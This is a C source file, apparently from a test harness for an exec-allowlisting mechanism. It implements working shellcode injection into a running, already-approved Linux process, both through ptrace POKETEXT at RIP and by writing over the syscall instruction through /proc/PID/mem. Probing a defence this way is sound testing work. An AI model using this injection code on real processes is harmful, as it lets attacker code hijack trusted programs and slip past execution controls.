/* Code injection into a running (signed, allowed) program: the attacker's shellcode runs
 * inside a process whose exec was judged and allowed. The target sleeps in
 * clock_nanosleep; the shellcode writes its marker to the target's stdout and exits.
 *
 *   ptrace-inject ptrace PID CODE    PTRACE_ATTACH, POKETEXT the code at RIP, cancel the
 *                                    syscall restart (orig_rax = -1), PTRACE_DETACH
 *   ptrace-inject procmem PID CODE   no ptrace(2): RIP from /proc/PID/syscall, the code
 *       written through /proc/PID/mem at RIP-2 behind two NOPs (over the `syscall`
 *       instruction), then SIGSTOP + SIGCONT: the interrupted sleep is restarted at RIP-2
 *       and runs the NOPs, then the code
 *
 * Both need ptrace access to the target (same uid without Yama, or CAP_SYS_PTRACE).
 * process_vm_writev is not a variant: it cannot write to read-only text (no FOLL_FORCE).
 */
#include <signal.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>

#include "eg.h"

static size_t read_code(const char *path, unsigned char *buf, size_t cap) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) eg_fail("open code");
    ssize_t n = read(fd, buf, cap);
    if (n <= 0) eg_fail("read code");
    close(fd);
    return (size_t)n;
}

static void by_ptrace(pid_t pid, const unsigned char *code, size_t len) {
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) eg_fail("PTRACE_ATTACH");
    int status;
    if (waitpid(pid, &status, __WALL) < 0) eg_fail("waitpid");
    struct user_regs_struct regs;
    if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0) eg_fail("PTRACE_GETREGS");
    for (size_t off = 0; off < len; off += sizeof(long)) {
        long word = 0;
        memcpy(&word, code + off, len - off < sizeof word ? len - off : sizeof word);
        if (ptrace(PTRACE_POKETEXT, pid, (void *)(regs.rip + off), (void *)word) < 0)
            eg_fail("PTRACE_POKETEXT");
    }
    regs.orig_rax = (unsigned long long)-1; /* no syscall restart: run from RIP as is */
    if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0) eg_fail("PTRACE_SETREGS");
    if (ptrace(PTRACE_DETACH, pid, NULL, NULL) < 0) eg_fail("PTRACE_DETACH");
}

static void by_proc_mem(pid_t pid, const unsigned char *code, size_t len) {
    char path[64], text[512];
    snprintf(path, sizeof path, "/proc/%d/syscall", (int)pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) eg_fail("open /proc/PID/syscall");
    ssize_t n = read(fd, text, sizeof text - 1);
    if (n <= 0) eg_fail("read /proc/PID/syscall");
    close(fd);
    text[n] = 0;
    char *last = strrchr(text, ' '); /* "nr a0 ... a5 sp pc": pc is the last field */
    if (last == NULL || strncmp(text, "running", 7) == 0) {
        dprintf(2, "EG-ERROR target not in a syscall: %s\n", text);
        _exit(EG_EXIT_ERROR);
    }
    unsigned long pc = strtoul(last + 1, NULL, 16);
    unsigned char buf[4096];
    buf[0] = buf[1] = 0x90; /* nop nop over the 2-byte syscall instruction */
    memcpy(buf + 2, code, len);
    snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
    fd = open(path, O_RDWR);
    if (fd < 0) eg_fail("open /proc/PID/mem");
    if (pwrite(fd, buf, len + 2, (off_t)(pc - 2)) != (ssize_t)(len + 2))
        eg_fail("pwrite /proc/PID/mem");
    close(fd);
    if (kill(pid, SIGSTOP) < 0 || kill(pid, SIGCONT) < 0) eg_fail("kill");
}

int main(int argc, char **argv) {
    if (argc != 4) eg_usage("ptrace-inject ptrace|procmem PID CODE");
    pid_t pid = (pid_t)atoi(argv[2]);
    unsigned char code[4000];
    size_t len = read_code(argv[3], code, sizeof code);
    if (strcmp(argv[1], "ptrace") == 0)
        by_ptrace(pid, code, len);
    else if (strcmp(argv[1], "procmem") == 0)
        by_proc_mem(pid, code, len);
    else
        eg_usage("bad mode");
    printf("EG-INJECTED %d\n", (int)pid);
    return 0;
}
